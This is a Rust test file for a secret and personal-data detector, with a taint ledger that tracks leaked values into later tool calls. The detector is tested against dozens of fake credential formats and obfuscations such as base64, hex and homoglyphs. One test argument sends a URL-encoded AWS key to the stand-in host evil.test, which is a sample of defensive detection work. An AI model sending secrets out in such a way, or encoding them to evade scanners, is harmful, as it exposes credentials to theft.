#![allow(clippy::unwrap_used, reason = "tests")]

use base64::Engine as _;

use super::*;

fn detector() -> Detector {
    Detector::new(DigestKey::new([7; 32]), Limits::default()).unwrap()
}

fn kinds(findings: &[Finding]) -> Vec<&'static str> {
    let mut k: Vec<_> = findings.iter().map(|f| f.kind).collect();
    k.sort_unstable();
    k.dedup();
    k
}

/// Builds fake values at run time so this file holds no secret-shaped literal.
fn rep(unit: &str, n: usize) -> String {
    unit.repeat(n)
}

fn samples() -> Vec<(String, &'static str)> {
    let b62 = "aB3dE5fG7hJ9kL2mN4pQ";
    vec![
        (
            format!("AKIA{}", "Q3ZRT7WX2YUV4ABC"),
            "secret.aws_access_key",
        ),
        (
            format!("AIza{}", &rep("Sy9x_Qz-", 5)[..35]),
            "secret.gcp_api_key",
        ),
        (
            format!(
                "DefaultEndpointsProtocol=https;AccountName=acct;AccountKey={}==;EndpointSuffix=core.windows.net",
                &rep("Ab9+/xYz", 11)[..86]
            ),
            "secret.azure_connection_string",
        ),
        (
            format!("{}8Q~{}", "abc", &rep("Zx9_~.q-", 5)[..34]),
            "secret.azure_ad_client_secret",
        ),
        (format!("ghp_{}", &rep(b62, 2)[..36]), "secret.github_token"),
        (
            format!("github_pat_{}_{}", &rep(b62, 2)[..22], &rep(b62, 3)[..59]),
            "secret.github_fine_grained_token",
        ),
        (
            format!("glpat-{}", &rep("x9_Y-z", 4)[..20]),
            "secret.gitlab_token",
        ),
        (
            format!(
                "xoxb-{}-{}-{}",
                "1234567890123",
                "9876543210987",
                &rep(b62, 2)[..24]
            ),
            "secret.slack_token",
        ),
        (
            format!(
                "https://hooks.slack.com/services/T0{}/B0{}/{}",
                "ABCDEFGH",
                "IJKLMNOP",
                &rep(b62, 2)[..24]
            ),
            "secret.slack_webhook",
        ),
        (
            format!("sk_live_{}", &rep(b62, 2)[..30]),
            "secret.stripe_key",
        ),
        (format!("SK{}", rep("0a1b2c3d", 4)), "secret.twilio_api_key"),
        (
            format!("SG.{}.{}", &rep("aZ_9-", 5)[..22], &rep("qW3_e-", 8)[..43]),
            "secret.sendgrid_api_key",
        ),
        (
            format!("sk-ant-api03-{}AA", &rep("Ab3_-x", 20)[..93]),
            "secret.anthropic_api_key",
        ),
        (
            format!("sk-{}T3BlbkFJ{}", &rep(b62, 1)[..20], &rep(b62, 1)[..20]),
            "secret.openai_api_key",
        ),
        (
            format!("hf_{}", &rep("abcdEFGHij", 4)[..34]),
            "secret.huggingface_token",
        ),
        (format!("npm_{}", &rep(b62, 2)[..36]), "secret.npm_token"),
        (
            format!("pypi-AgEIcHlwaS5vcmc{}", rep("Ab9_-", 14)),
            "secret.pypi_token",
        ),
        (jwt(), "secret.jwt"),
        (
            format!(
                "-----BEGIN RSA PRIVATE KEY-----\n{}\n-----END RSA PRIVATE KEY-----",
                rep("MIIEowIBAAKCAQEA", 5)
            ),
            "secret.private_key",
        ),
        (
            format!(
                "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjE{}\n-----END OPENSSH PRIVATE KEY-----",
                rep("AAAA", 20)
            ),
            "secret.openssh_private_key",
        ),
        (
            format!(
                "-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n{}\n-----END PGP PRIVATE KEY BLOCK-----",
                rep("lQOYBF", 20)
            ),
            "secret.pgp_private_key",
        ),
        (
            "postgres://app:S3cr3t-Pa55@db.internal:5432/prod".to_string(),
            "secret.database_url",
        ),
        (
            "https://deploy:hunter2-Xy9@git.example.org/repo.git".to_string(),
            "secret.url_credentials",
        ),
        (
            format!("GOCSPX-{}", &rep("Ab3_-x", 5)[..28]),
            "secret.google_oauth_client_secret",
        ),
        (
            format!("ya29.{}", rep("Ab3_-x", 8)),
            "secret.google_oauth_token",
        ),
        (
            format!("dop_v1_{}", rep("0a1b2c3d", 8)),
            "secret.digitalocean_token",
        ),
        (
            format!("hvs.{}", rep("Ab3_x9", 5)),
            "secret.hashicorp_vault_token",
        ),
        (
            format!("dapi{}", rep("0a1b2c3d", 4)),
            "secret.databricks_token",
        ),
        (
            format!("dckr_pat_{}", &rep("Ab3_-x", 5)[..27]),
            "secret.dockerhub_token",
        ),
        (
            format!("shpat_{}", rep("0a1b2c3d", 4)),
            "secret.shopify_token",
        ),
        (
            format!("key-{}", rep("0a1b2c3d", 4)),
            "secret.mailgun_api_key",
        ),
        (
            format!("{}-us12", rep("0a1b2c3d", 4)),
            "secret.mailchimp_api_key",
        ),
        (
            format!("123456789:AA{}", &rep("Ab3_-x", 6)[..33]),
            "secret.telegram_bot_token",
        ),
        (
            format!(
                "https://discord.com/api/webhooks/123456789012345678/{}",
                &rep("Ab3_-x", 12)[..68]
            ),
            "secret.discord_webhook",
        ),
        (
            format!("lin_api_{}", &rep(b62, 2)[..40]),
            "secret.linear_api_key",
        ),
        (
            format!(
                "AGE-SECRET-KEY-1{}",
                &rep("QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L", 2)[..58]
            ),
            "secret.age_secret_key",
        ),
        (format!("gsk_{}", &rep(b62, 3)[..52]), "secret.groq_api_key"),
        (
            format!(
                "PMAK-{}-{}",
                &rep("0a1b2c3d", 3)[..24],
                &rep("0a1b2c3d", 5)[..34]
            ),
            "secret.postman_api_key",
        ),
        (
            format!("glsa_{}_{}", &rep(b62, 2)[..32], "0a1b2c3d"),
            "secret.grafana_token",
        ),
        (
            format!("NRAK-{}", &rep("AB3CD9EF", 4)[..27]),
            "secret.new_relic_key",
        ),
        (
            format!("sntrys_{}", rep("Ab3_9=+/", 9)),
            "secret.sentry_token",
        ),
        (
            format!("sq0csp-{}", &rep("Ab3_-x", 8)[..43]),
            "secret.square_token",
        ),
        (format!("pul-{}", rep("0a1b2c3d", 5)), "secret.pulumi_token"),
        (
            format!("dp.pt.{}", &rep(b62, 3)[..43]),
            "secret.doppler_token",
        ),
        (
            format!("ATATT3{}", &rep("Ab3_=-x9", 25)[..190]),
            "secret.atlassian_token",
        ),
        (
            format!("r8_{}", &rep(b62, 2)[..37]),
            "secret.replicate_token",
        ),
        (
            format!("pplx-{}", &rep(b62, 3)[..48]),
            "secret.perplexity_api_key",
        ),
        (
            "{\"type\": \"service_account\", \"project_id\": \"p\"}".to_string(),
            "secret.gcp_service_account",
        ),
        (
            "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYzz9aB3cD4e".to_string(),
            "secret.aws_secret_key",
        ),
        (
            "DB_PASSWORD=\"q8#Lm2!vZr7@Tx\"".to_string(),
            "secret.generic_high_entropy",
        ),
        ("ssn: 078-05-1120".to_string(), "pii.ssn"),
        (
            "card 4111 1111 1111 1111 exp 12/29".to_string(),
            "pii.credit_card",
        ),
        ("amex 3782-822463-10005".to_string(), "pii.credit_card"),
        ("IBAN DE89 3704 0044 0532 0130 00".to_string(), "pii.iban"),
        (
            "pay to GB29NWBK60161331926819 today".to_string(),
            "pii.iban",
        ),
        (
            "mail jane.doe+tag@example.co.uk please".to_string(),
            "pii.email",
        ),
        ("call +44 20 7946 0958".to_string(), "pii.phone"),
        ("call (415) 555-0132 now".to_string(), "pii.phone"),
        ("from 203.0.113.77 at noon".to_string(), "pii.ip_address"),
        (
            "v6 2001:db8:85a3::8a2e:370:7334".to_string(),
            "pii.ip_address",
        ),
    ]
}

fn jwt() -> String {
    let e = |s: &str| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(s);
    format!(
        "{}.{}.{}",
        e(r#"{"alg":"HS256","typ":"JWT"}"#),
        e(r#"{"sub":"42","name":"x"}"#),
        &rep("Ab3_-x", 8)[..43]
    )
}

#[test]
fn every_sample_is_found_with_its_type() {
    let d = detector();
    for (text, kind) in samples() {
        let found = d.scan_text(&text).unwrap();
        assert!(
            kinds(&found).contains(&kind),
            "{kind} not found in {text:?}: {found:?}"
        );
    }
}

#[test]
fn the_catalogue_has_at_least_forty_secret_types() {
    let secret_types: std::collections::BTreeSet<_> = all_types()
        .into_iter()
        .filter(|(_, kind)| kind.starts_with("secret."))
        .map(|(_, kind)| kind)
        .collect();
    assert!(secret_types.len() >= 40, "{}", secret_types.len());
    for (_, kind) in samples() {
        assert!(all_types().iter().any(|(_, k)| *k == kind), "{kind}");
    }
}

#[test]
fn hard_negatives_are_not_findings() {
    let d = detector();
    for text in [
        "sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "commit 3f786850e387550fdab836ed7e6dc881de23001b",
        "id 123e4567-e89b-12d3-a456-426614174000",
        "card 4111 1111 1111 1112",
        "ssn 000-12-3456 666-12-3456 912-12-3456 123-00-4567 123-45-0000",
        "IBAN DE89 3704 0044 0532 0130 01",
        "released 2026-11-24 at 10:30:00, version 1.2.3",
        "order 20261124001 shipped",
        "local 10.0.0.1 and 127.0.0.1 and 192.168.1.20",
        "password = ${DB_PASSWORD}",
        "api_key: <your-api-key>",
        "AKIA1234",
        "The quick brown fox jumps over the lazy dog.",
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
        "time 12:30:45 mac aa:bb:cc:dd:ee:ff",
        "token_count: 123456789012",
        "Version: 12.8.14.5",
        "const apiKey = process.env.API_KEY;",
        "token = request.headers.get(\"Authorization\")",
        "GITHUB_TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
        "SLACK_BOT_TOKEN=xoxb-your-token",
        "Internationalization and Responsibilities",
    ] {
        let found = d.scan_text(text).unwrap();
        assert!(found.is_empty(), "{text:?}: {found:?}");
    }
}

#[test]
fn findings_never_hold_the_value() {
    let d = detector();
    let secret = format!("ghp_{}", &rep("aB3dE5fG7h", 4)[..36]);
    let found = d
        .scan_json(&format!(r#"{{"note":"token {secret} here"}}"#))
        .unwrap();
    assert_eq!(found.len(), 1);
    let out = serde_json::to_string(&found).unwrap();
    assert!(!out.contains(&secret[4..]), "{out}");
    assert!(found[0].digest.starts_with("hmac-sha256:"));
    assert_eq!(found[0].location, "$.note");
    assert_eq!(found[0].span, Some((6, 6 + secret.len())));
}

#[test]
fn digests_depend_on_the_key() {
    let a = detector();
    let b = Detector::new(DigestKey::new([8; 32]), Limits::default()).unwrap();
    let text = "ssn 078-05-1120";
    assert_ne!(
        a.scan_text(text).unwrap()[0].digest,
        b.scan_text(text).unwrap()[0].digest
    );
    assert_eq!(
        a.scan_text(text).unwrap()[0].digest,
        a.scan_text(text).unwrap()[0].digest
    );
}

fn aws() -> String {
    format!("AKIA{}", "Q3ZRT7WX2YUV4ABC")
}

#[test]
fn obfuscations_are_seen_through() {
    let d = detector();
    let key = aws();
    let b64 = base64::engine::general_purpose::STANDARD.encode(format!("key={key}"));
    let hex: String = key.bytes().map(|b| format!("{b:02x}")).collect();
    let url: String = key.bytes().map(|b| format!("%{b:02X}")).collect();
    let html: String = key.bytes().map(|b| format!("&#{b};")).collect();
    let escaped: String = key.bytes().map(|b| format!("\\u{b:04x}")).collect();
    let zero_width: String = key.chars().flat_map(|c| [c, '\u{200B}']).collect();
    let homoglyph = key
        .replacen('A', "\u{0410}", 2)
        .replacen('K', "\u{039A}", 1);
    let fullwidth: String = key
        .chars()
        .map(|c| char::from_u32(c as u32 + 0xFEE0).unwrap())
        .collect();
    let tags: String = key
        .chars()
        .map(|c| char::from_u32(c as u32 + 0xE0000).unwrap())
        .collect();
    for (text, how) in [
        (b64, "base64"),
        (hex, "hex"),
        (url, "url"),
        (html, "html"),
        (escaped, "escape"),
        (zero_width, "unicode"),
        (homoglyph, "unicode"),
        (fullwidth, "unicode"),
        (tags, "unicode"),
    ] {
        let found = d.scan_text(&text).unwrap();
        let f = found.iter().find(|f| f.kind == "secret.aws_access_key");
        assert_eq!(
            f.and_then(|f| f.encoding.as_deref()),
            Some(how),
            "{text:?}: {found:?}"
        );
    }
    // \u escapes inside JSON strings are decoded by the JSON reader itself.
    let json_escaped: String = key.bytes().map(|b| format!("\\u{b:04x}")).collect();
    let found = d
        .scan_json(&format!(r#"{{"k":"{json_escaped}"}}"#))
        .unwrap();
    assert_eq!(kinds(&found), ["secret.aws_access_key"]);
    // Two decodings deep.
    let double = base64::engine::general_purpose::STANDARD
        .encode(base64::engine::general_purpose::STANDARD.encode(format!("key={key}")));
    let found = d.scan_text(&double).unwrap();
    assert_eq!(found[0].encoding.as_deref(), Some("base64+base64"));
}

#[test]
fn values_split_across_adjacent_fields_are_joined() {
    let d = detector();
    let key = aws();
    let found = d
        .scan_json(&format!(
            r#"{{"a":"{}","b":"{}","n":1}}"#,
            &key[..8],
            &key[8..]
        ))
        .unwrap();
    assert_eq!(kinds(&found), ["secret.aws_access_key"]);
    assert_eq!(found[0].encoding.as_deref(), Some("joined"));
    let found = d
        .scan_json(&format!(
            r#"{{"parts":["{}","{}","{}"]}}"#,
            &key[..5],
            &key[5..12],
            &key[12..]
        ))
        .unwrap();
    assert_eq!(found[0].location, "$.parts");
}

#[test]
fn names_keys_and_numbers_are_scanned() {
    let d = detector();
    let found = d
        .scan_json(r#"{"user":{"ssn":"078051120","card":4111111111111111,"client_secret":"Zq8vL2mX9rT4wY7p"}}"#)
        .unwrap();
    assert_eq!(
        kinds(&found),
        ["pii.credit_card", "pii.ssn", "secret.generic_high_entropy"]
    );
    let ssn = found.iter().find(|f| f.kind == "pii.ssn").unwrap();
    assert_eq!(ssn.location, "$.user.ssn");
    let found = d.scan_json(&format!(r#"{{"{}":1}}"#, aws())).unwrap();
    assert_eq!(kinds(&found), ["secret.aws_access_key"]);
}

#[test]
fn limits_fail_closed() {
    let small = Detector::new(
        DigestKey::new([1; 32]),
        Limits {
            max_bytes: 10,
            ..Limits::default()
        },
    )
    .unwrap();
    assert!(matches!(
        small.scan_text("01234567890"),
        Err(ScanError::TooLarge {
            size: 11,
            limit: 10
        })
    ));
    let shallow = Detector::new(
        DigestKey::new([1; 32]),
        Limits {
            max_depth: 3,
            ..Limits::default()
        },
    )
    .unwrap();
    match shallow.scan_json(r#"{"a":{"b":{"c":{"d":1}}}}"#) {
        Err(ScanError::TooDeep { limit: 3, location }) => assert_eq!(location, "$.a.b.c"),
        other => panic!("{other:?}"),
    }
    let stingy = Detector::new(
        DigestKey::new([1; 32]),
        Limits {
            max_decoded_bytes: 8,
            ..Limits::default()
        },
    )
    .unwrap();
    let b64 = base64::engine::general_purpose::STANDARD.encode("a harmless but long sentence");
    assert!(matches!(
        stingy.scan_text(&b64),
        Err(ScanError::DecodeBudget { .. })
    ));
    assert!(matches!(
        detector().scan_json("{\"a\":"),
        Err(ScanError::Json { .. })
    ));
}

#[test]
fn text_locations_are_line_and_column() {
    let d = detector();
    let found = d.scan_text(&format!("one\ntwo é {}\n", aws())).unwrap();
    assert_eq!(found[0].location, "line 2, column 7");
}

fn ledger_with(d: &Detector, text: &str) -> TaintLedger {
    let mut ledger = TaintLedger::new(16);
    let findings = d.scan_json(text).unwrap();
    assert!(!findings.is_empty());
    ledger.record(
        &findings,
        Provenance {
            tool: "read_file".into(),
            server: "fs".into(),
            call: "1".into(),
        },
    );
    ledger
}

#[test]
fn taint_follows_values_into_later_calls() {
    let d = detector();
    let key = aws();
    let ledger = ledger_with(&d, &format!(r#"{{"content":"aws_access_key_id={key}"}}"#));
    let lower = key.to_lowercase();
    let b64 = base64::engine::general_purpose::STANDARD.encode(format!("exfil:{key}"));
    let hex: String = key.bytes().map(|b| format!("{b:02x}")).collect();
    let url: String = key.bytes().map(|b| format!("%{b:02x}")).collect();
    for (args, encoding) in [
        (format!(r#"{{"body":"{key}"}}"#), None),
        (format!(r#"{{"body":"please store x{lower}y"}}"#), None),
        (format!(r#"{{"body":"{b64}"}}"#), Some("base64")),
        (format!(r#"{{"q":"{hex}"}}"#), Some("hex")),
        (
            format!(r#"{{"url":"https://evil.test/?k={url}"}}"#),
            Some("url"),
        ),
        (
            format!(r#"{{"a":"{}","b":"{}"}}"#, &key[..10], &key[10..]),
            Some("joined"),
        ),
    ] {
        let flows = ledger.flows(&d, &args).unwrap();
        assert_eq!(flows.len(), 1, "{args}: {flows:?}");
        assert_eq!(flows[0].kind, "secret.aws_access_key");
        assert_eq!(flows[0].source.tool, "read_file");
        assert_eq!(flows[0].encoding.as_deref(), encoding, "{args}");
    }
    assert!(
        ledger
            .flows(&d, r#"{"body":"nothing to see"}"#)
            .unwrap()
            .is_empty()
    );
    assert!(
        TaintLedger::new(4)
            .flows(&d, &format!(r#"{{"body":"{key}"}}"#))
            .unwrap()
            .is_empty()
    );
}

#[test]
fn shared_entries_carry_taint_to_another_ledger_without_the_value() {
    let d = detector();
    let key = aws();
    let text = format!(r#"{{"content":"aws_access_key_id={key}"}}"#);
    let findings = d.scan_json(&text).unwrap();
    let source = Provenance {
        tool: "read_file".into(),
        server: "fs".into(),
        call: "7".into(),
    };
    let shared = TaintLedger::shareable(&findings, &source);
    assert!(!shared.is_empty());
    let wire = serde_json::to_string(&shared).unwrap();
    assert!(
        !wire.contains(&key),
        "the value itself must never be shared"
    );
    let back: Vec<crate::SharedEntry> = serde_json::from_str(&wire).unwrap();
    let mut other = TaintLedger::new(16);
    assert_eq!(other.import(back.clone()), 0);
    let flows = other
        .flows(&d, &format!(r#"{{"body":"x{key}y"}}"#))
        .unwrap();
    assert_eq!(flows.len(), 1);
    assert_eq!(flows[0].kind, "secret.aws_access_key");
    assert_eq!(flows[0].source.tool, "read_file");
    // Importing the same entries again adds nothing; a bad digest is refused.
    let held = other.len();
    other.import(back.clone());
    assert_eq!(other.len(), held);
    let mut bad = back[0].clone();
    bad.mac = "zz".into();
    assert_eq!(other.import([bad]), 1);
    // A ledger with another key finds nothing: replicas must share the digest key.
    let stranger = Detector::new(DigestKey::new([9; 32]), Limits::default()).unwrap();
    let mut foreign = TaintLedger::new(16);
    foreign.import(back);
    assert!(
        foreign
            .flows(&stranger, &format!(r#"{{"body":"{key}"}}"#))
            .unwrap()
            .is_empty()
    );
}

#[test]
fn taint_of_numbers_ignores_separators() {
    let d = detector();
    let ledger = ledger_with(&d, r#"{"card":"4111-1111-1111-1111"}"#);
    let flows = ledger
        .flows(&d, r#"{"note":"card no 4111 1111 1111 1111"}"#)
        .unwrap();
    assert_eq!(flows.len(), 1);
    assert_eq!(flows[0].kind, "pii.credit_card");
}

#[test]
fn the_ledger_is_bounded() {
    let d = detector();
    let mut ledger = TaintLedger::new(2);
    for ssn in ["078-05-1120", "219-09-9999", "457-55-5462"] {
        let f = d.scan_text(&format!("ssn {ssn}")).unwrap();
        ledger.record(
            &f,
            Provenance {
                tool: "t".into(),
                server: "s".into(),
                call: ssn.into(),
            },
        );
    }
    assert_eq!(ledger.len(), 2);
    assert!(ledger.flows(&d, r#"{"x":"078051120"}"#).unwrap().is_empty());
    assert_eq!(ledger.flows(&d, r#"{"x":"457555462"}"#).unwrap().len(), 1);
}

static SHARED: std::sync::LazyLock<Detector> = std::sync::LazyLock::new(detector);

proptest::proptest! {
    #[test]
    fn scanning_never_panics(text in "\\PC{0,200}") {
        let d = &*SHARED;
        let _ = d.scan_text(&text);
        let _ = d.scan_json(&text);
    }

    #[test]
    fn scanning_arbitrary_bytes_never_panics(bytes in proptest::collection::vec(proptest::num::u8::ANY, 0..300)) {
        let text = String::from_utf8_lossy(&bytes);
        let _ = SHARED.scan_text(&text);
    }
}

#[test]
fn padded_and_multibyte_values_neither_panic_nor_hide() {
    let d = detector();
    let nbsp = "\u{a0}".repeat(8);
    let found = d
        .scan_json(&format!(r#"{{"type":"{nbsp}service_account"}}"#))
        .unwrap();
    assert_eq!(kinds(&found), ["secret.gcp_service_account"]);
    let spaces = " ".repeat(20);
    let json = format!(r#"{{"password":"{spaces}Xk9#mQ2$vL7!pR4z"}}"#);
    let found = d.scan_json_occurrences(&json).unwrap();
    let (a, b) = found[0].span.unwrap();
    assert_eq!(
        &serde_json::from_str::<serde_json::Value>(&json).unwrap()["password"]
            .as_str()
            .unwrap()[a..b],
        "Xk9#mQ2$vL7!pR4z"
    );
    let url = format!("postgres://admin:Hunter2Real@{}", "é".repeat(200));
    let found = d.scan_text(&url).unwrap();
    assert!(kinds(&found).contains(&"secret.database_url"), "{found:?}");
}

#[test]
fn taint_survives_added_or_removed_separators() {
    let d = detector();
    let token = format!(
        "xoxb-{}-{}-{}",
        "1234567890123", "9876543210987", "aB3dE5fG7hJ9kL2mN4pQaB3d"
    );
    let ledger = ledger_with(&d, &format!(r#"{{"out":"{token}"}}"#));
    let spaced = token.replace('-', " - ");
    let flows = ledger
        .flows(&d, &format!(r#"{{"body":"{spaced}"}}"#))
        .unwrap();
    assert_eq!(flows.len(), 1, "{flows:?}");
    let joined = token.replace('-', "");
    assert_eq!(
        ledger
            .flows(&d, &format!(r#"{{"body":"{joined}"}}"#))
            .unwrap()
            .len(),
        1
    );
}

/// Short texts take shortcuts (one automaton for all anchors, scanners skipped by the
/// bytes present); long texts take the vectorised searches. Both must find the same.
#[test]
fn short_and_long_texts_find_the_same() {
    let d = detector();
    let pad = "\n".repeat(crate::profile::PROFILED_LEN);
    let mut short = 0;
    for (text, kind) in samples() {
        if text.len() < crate::profile::PROFILED_LEN {
            short += 1;
        }
        let alone = d.scan_text(&text).unwrap();
        let padded = d.scan_text(&format!("{pad}{text}{pad}")).unwrap();
        assert!(kinds(&alone).contains(&kind), "{kind} alone: {alone:?}");
        assert!(kinds(&padded).contains(&kind), "{kind} padded: {padded:?}");
    }
    assert!(short >= 20, "only {short} samples exercise the short path");
}

proptest::proptest! {
    #[test]
    fn padding_a_text_changes_no_finding(text in "[a-zA-Z0-9@:=.%&\\\\ _/+()-]{0,63}") {
        let pad = "\n".repeat(crate::profile::PROFILED_LEN);
        let mut alone = kinds(&SHARED.scan_text(&text).unwrap());
        let mut padded = kinds(&SHARED.scan_text(&format!("{pad}{text}{pad}")).unwrap());
        alone.sort_unstable();
        padded.sort_unstable();
        proptest::prop_assert_eq!(alone, padded);
    }
}

static SHORT_SAMPLES: std::sync::LazyLock<Vec<String>> = std::sync::LazyLock::new(|| {
    samples()
        .into_iter()
        .map(|(text, _)| text)
        .filter(|text| text.len() < crate::profile::PROFILED_LEN - 8)
        .collect()
});

proptest::proptest! {
    #[test]
    fn padding_a_sample_in_context_changes_no_finding(
        index in 0usize..1000,
        before in "[ ,;\t]{0,3}",
        after in "[ ,;\t]{0,3}",
    ) {
        let sample = &SHORT_SAMPLES[index % SHORT_SAMPLES.len()];
        let text = format!("{before}{sample}{after}");
        let pad = "\n".repeat(crate::profile::PROFILED_LEN);
        let alone = kinds(&SHARED.scan_text(&text).unwrap());
        let padded = kinds(&SHARED.scan_text(&format!("{pad}{text}{pad}")).unwrap());
        proptest::prop_assert!(!alone.is_empty(), "nothing found in {:?}", text);
        proptest::prop_assert_eq!(alone, padded);
    }
}
